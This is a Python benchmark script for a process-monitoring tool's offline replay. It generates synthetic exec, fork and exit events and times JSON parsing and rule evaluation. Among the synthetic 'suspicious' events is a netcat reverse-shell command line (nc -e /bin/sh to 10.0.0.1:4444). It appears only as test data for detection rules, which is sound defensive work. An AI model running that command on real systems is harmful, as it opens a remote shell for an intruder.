#!/usr/bin/env python3
"""Offline replay rate: events/s through `ringwatch replay`'s path with the default rules.

Generates a large events file shaped like what `ringwatch run --record` writes (exec,
fork and exit events with lineage fields, a small share of them suspicious), then times
replay_lines() over it: JSON parsing, the event-type index, rule evaluation, alert
building and alert serialisation. It also times evaluation alone on pre-parsed events.
The last stdout line is JSON with "events_per_s" (read by `make bench`).

    .venv/bin/python bench/replay_rate.py [--events 200000] [--json OUT] [--file EVENTS.jsonl]
"""

from __future__ import annotations

import argparse
import json
import os
import random
import sys
import tempfile
import time
from pathlib import Path
from typing import Any

REPO = Path(__file__).resolve().parent.parent
sys.path.insert(0, str(REPO))  # run as a script from anywhere, installed or not

from monitor import paths  # noqa: E402
from monitor.events.catalog import FIELD_TYPES  # noqa: E402
from monitor.replay import replay_lines  # noqa: E402
from monitor.rules import RuleSources, load  # noqa: E402
from monitor.sinks.stream import StreamSink  # noqa: E402

BENIGN = [
    ("/usr/bin/ls", ["ls", "-la"]),
    ("/usr/bin/grep", ["grep", "-q", "x", "/etc/hosts"]),
    ("/usr/bin/cat", ["cat", "/proc/loadavg"]),
    ("/usr/bin/python3", ["python3", "-c", "pass"]),
    ("/usr/bin/git", ["git", "status"]),
    ("/bin/sh", ["sh", "-c", "date"]),
    ("/usr/bin/bash", ["bash", "-c", "true"]),
    ("/usr/sbin/sshd", ["sshd", "-D"]),
]
SUSPICIOUS = [
    ("/tmp/x", ["x"], "bash", 0),
    ("/bin/sh", ["sh"], "nginx", 33),
    ("/usr/bin/nc", ["nc", "-e", "/bin/sh", "10.0.0.1", "4444"], "bash", 0),
    ("/bin/bash", ["bash"], "cron", 33),
]


def _event(rng: random.Random, i: int, ts: int) -> dict[str, Any]:
    pid = 1000 + i
    kind = rng.random()
    parent = rng.choice(["bash", "systemd", "sshd", "containerd-shim", "cron"])
    ev: dict[str, Any] = {
        "evt.time": "2026-01-01T00:00:00.000000000Z",
        "evt.ts": ts,
        "evt.mono_ns": ts,
        "evt.cpu": i % 2,
        "proc.pid": pid,
        "proc.tid": pid,
        "proc.ppid": pid - 1,
        "proc.start_ns": ts,
        "user.uid": 0,
        "user.name": "root",
        "group.gid": 0,
        "cgroup.id": 1,
        "proc.pname": parent,
        "proc.pexe": parent,
        "proc.pexepath": f"/usr/bin/{parent}",
        "proc.pcmdline": parent,
        # [0], the process itself, is filled in below.
        "proc.aname": [parent, "systemd"],
        "proc.apid": [pid, pid - 1, 1],
        "proc.aexepath": [f"/usr/bin/{parent}", "/lib/systemd/systemd"],
        "proc.exec_id": f"b00t:{pid}:{ts}",
        "proc.pexec_id": f"b00t:{pid - 1}:0",
    }
    if rng.random() < 0.01:
        exe, argv, parent, uid = rng.choice(SUSPICIOUS)
        ev.update({"proc.pname": parent, "user.uid": uid, "user.name": "www-data" if uid else "root"})
        ev["proc.aname"] = [parent, "systemd"]
    else:
        exe, argv = rng.choice(BENIGN)
    name = Path(exe).name
    ev["proc.name"] = name
    ev["proc.aname"] = [name, *ev["proc.aname"]]
    ev["proc.aexepath"] = [exe, *ev["proc.aexepath"]]
    ev.update(
        {
            "proc.exe": argv[0],
            "proc.exepath": exe,
            "proc.argv": argv,
            "proc.args": " ".join(argv[1:]),
            "proc.cmdline": " ".join([name, *argv[1:]]),
        }
    )
    if kind < 0.34:
        ev.update(
            {
                "evt.type": "execve",
                "evt.res": "SUCCESS",
                "evt.rawres": 0,
                "evt.failed": False,
                "evt.arg.filename": exe,
                "evt.errno": "",
                "proc.argv_truncated": False,
            }
        )
    elif kind < 0.67:
        ev.update({"evt.type": "fork", "proc.child_pid": pid})
    else:
        ev.update({"evt.type": "exit", "proc.exit_code": 0, "proc.exit_signal": 0})
    return ev


def generate(path: Path, n: int, seed: int = 1) -> None:
    rng = random.Random(seed)
    with open(path, "w", encoding="utf-8") as fh:
        for i in range(n):
            fh.write(json.dumps(_event(rng, i, 1_000_000_000 + i * 1000), ensure_ascii=False) + "\n")


def _replay_once(path: Path, sources: RuleSources) -> tuple[float, Any]:
    ruleset = load(sources)
    with open(os.devnull, "w") as devnull:
        sink = StreamSink("devnull", devnull)
        with open(path, encoding="utf-8", errors="surrogateescape") as fh:
            t0 = time.perf_counter()
            st = replay_lines(fh, ruleset, sink.emit, lambda _n, _r: None)
            return time.perf_counter() - t0, st


def measure(path: Path, sources: RuleSources, rounds: int) -> dict[str, Any]:
    """Best of `rounds` (the machine is shared: the fastest round is the least disturbed)."""
    runs = [_replay_once(path, sources) for _ in range(rounds)]
    replay_s, st = min(runs, key=lambda r: r[0])
    with open(path, encoding="utf-8") as fh:
        events = [json.loads(line) for line in fh]
    ruleset = load(sources)
    eval_times = []
    matched = 0
    for _ in range(rounds):
        t0 = time.perf_counter()
        matched = sum(len(ruleset.matching(ev)) for ev in events)
        eval_times.append(time.perf_counter() - t0)
    eval_s = min(eval_times)
    evaluations = sum(s["evaluated"] for s in ruleset.stats().values()) // rounds
    return {
        "events_per_s": round(st.events / replay_s),
        "eval_only_events_per_s": round(len(events) / eval_s),
        "events": st.events,
        "alerts": st.alerts,
        "malformed": st.malformed,
        "matched_eval_only": matched,
        "rules": len(ruleset.rules),
        "rule_evaluations": evaluations,
        "replay_seconds": round(replay_s, 3),
        "eval_seconds": round(eval_s, 3),
        "rounds": rounds,
        "loadavg": Path("/proc/loadavg").read_text().split()[0],
    }


def main(argv: list[str] | None = None) -> int:
    p = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    p.add_argument("--events", type=int, default=200_000, help="events to generate (default 200000)")
    p.add_argument("--file", type=Path, help="replay this recorded file instead of generating one")
    p.add_argument("--rules", action="append", type=Path, default=[], help="extra rules files")
    p.add_argument("--no-default-rules", action="store_true", help="only the --rules files")
    p.add_argument("--json", type=Path, help="also write the result here")
    p.add_argument("--rounds", type=int, default=3, help="timed rounds; the best is reported (default 3)")
    args = p.parse_args(argv)
    sources = RuleSources(paths=tuple(args.rules), defaults=not args.no_default_rules,
                          default_dir=paths.rules_dir(), fields=FIELD_TYPES)
    with tempfile.TemporaryDirectory(prefix="rw-replay-") as tmp:
        path = args.file
        if path is None:
            path = Path(tmp) / "events.jsonl"
            generate(path, args.events)
        result = measure(path, sources, max(1, args.rounds))
    result["file"] = str(args.file) if args.file else f"generated ({args.events} events)"
    print(
        f"replay: {result['events']} events, {result['alerts']} alerts, {result['rules']} rules, "
        f"{result['rule_evaluations']} rule evaluations",
        file=sys.stderr,
    )
    print(
        f"replay: {result['events_per_s']} events/s end to end (JSON parse + rules + alerts); "
        f"{result['eval_only_events_per_s']} events/s rules only",
        file=sys.stderr,
    )
    if args.json:
        args.json.write_text(json.dumps(result, indent=2) + "\n")
    print(json.dumps(result))
    return 0


if __name__ == "__main__":
    sys.exit(main())
